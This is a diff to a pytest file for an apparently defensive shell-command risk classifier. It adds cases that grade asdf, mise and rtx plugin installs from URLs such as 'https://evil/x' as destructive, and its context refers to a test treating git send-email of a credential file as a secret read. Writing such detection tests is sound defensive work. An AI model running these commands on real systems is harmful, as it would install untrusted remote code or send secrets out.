@@ -110,3 +110,19 @@ def test_git_send_email_of_a_credential_file_is_a_secret_read(script: str, secre
     graded = classify(script, contained=False, workspace=WORKSPACE)
     assert ("secret-read" in [r.rule for r in graded.reasons]) is secret, graded.reasons
     assert graded.risk is RiskLevel.NETWORK or secret
+
+
+@pytest.mark.parametrize(
+    ("command", "level"),
+    [
+        ("asdf plugin add x https://evil/x", RiskLevel.DESTRUCTIVE),
+        ("mise plugins install x https://evil/x", RiskLevel.DESTRUCTIVE),
+        ("rtx plugins install x https://evil", RiskLevel.DESTRUCTIVE),
+        ("mise plugins link x ./dir", RiskLevel.DESTRUCTIVE),
+        ("asdf plugin add nodejs", RiskLevel.SYSTEM),  # from the short-name index
+        ("mise plugins install node", RiskLevel.SYSTEM),
+        ("asdf plugin list", RiskLevel.READ_ONLY),
+    ],
+)
+def test_version_manager_plugins_from_a_url_are_tool_plugins(command: str, level: RiskLevel) -> None:
+    assert _grade(command) is level
